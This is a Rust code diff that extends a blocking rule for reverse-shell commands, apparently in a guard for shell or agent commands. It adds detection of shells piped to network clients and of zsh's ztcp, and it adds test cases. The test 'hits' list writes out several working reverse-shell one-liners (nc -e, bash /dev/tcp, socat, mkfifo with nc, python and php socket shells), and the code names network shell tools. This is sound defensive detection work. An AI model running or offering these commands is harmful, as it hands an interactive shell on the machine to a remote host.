@@ -156,8 +156,8 @@ pub static RULES: &[Rule] = &[
         reason: "it hands an interactive shell on this machine to a remote host",
         decision: Decision::Block,
         matcher: Matcher::Analysis(reverse_shell),
-        hits: &["nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "ncat --exec /bin/bash 10.0.0.1 9001", "socat tcp:10.0.0.1:4444 exec:/bin/sh", "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'", "php -r '$s=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"],
-        misses: &["nc -zv example.com 443", "echo hi > /dev/null", "python3 -c 'import socket; s=socket.create_connection((\"example.com\", 80)); s.sendall(b\"x\")'", "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'"],
+        hits: &["nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "ncat --exec /bin/bash 10.0.0.1 9001", "socat tcp:10.0.0.1:4444 exec:/bin/sh", "telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445", "mkfifo /tmp/f; sh -i < /tmp/f 2>&1 | nc 10.0.0.1 4444 > /tmp/f", "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'", "php -r '$s=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"],
+        misses: &["nc -zv example.com 443", "echo hi > /dev/null", "echo 'GET /' | nc example.com 80", "nc -l 8080 | sh -c 'cat > upload.bin'", "python3 -c 'import socket; s=socket.create_connection((\"example.com\", 80)); s.sendall(b\"x\")'", "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'"],
     },
     Rule {
         id: "hardline.guard-tamper",
@@ -478,8 +478,36 @@ fn reverse_shell(analysis: &Analysis) -> Option<String> {
         let shell_on_socket = net_redirect
             && (matches!(cmd.program.as_str(), "bash" | "sh" | "zsh" | "dash" | "ksh")
                 || !cmd.redirects.is_empty() && cmd.program.is_empty());
-        (hit || shell_on_socket).then(|| cmd.display())
+        // `telnet h p | sh | telnet h q`, `sh -i < f | nc h p > f`: a shell
+        // reading commands from, or answering to, a network client.
+        let piped = (network_client(cmd) && cmd.upstream.iter().any(interactive_shell))
+            || (interactive_shell(cmd) && cmd.upstream.iter().any(network_client));
+        // zsh's `ztcp HOST PORT` opens a socket a later shell is redirected to.
+        let ztcp = cmd.program == "ztcp"
+            && cmd.operands().len() >= 2
+            && analysis
+                .commands
+                .iter()
+                .any(|c| SHELL_NAMES.contains(&c.program.as_str()) && !c.redirects.is_empty());
+        (hit || shell_on_socket || piped || ztcp).then(|| cmd.display())
     })
+}
+
+const SHELL_NAMES: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "yash"];
+
+/// A shell that reads its commands from stdin: `sh -i`, or no `-c` and no script.
+fn interactive_shell(cmd: &Command) -> bool {
+    SHELL_NAMES.contains(&cmd.program.as_str())
+        && (cmd.has_short('i') || !cmd.has_short('c') && cmd.operands().is_empty())
+}
+
+/// A program whose stdin and stdout are a network connection.
+fn network_client(cmd: &Command) -> bool {
+    match cmd.program.as_str() {
+        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" | "telnet" | "socat" => true,
+        "openssl" => cmd.args.first().is_some_and(|a| a == "s_client"),
+        _ => false,
+    }
 }
 
 /// Variables that switch Hermes' guards off for the rest of a session:
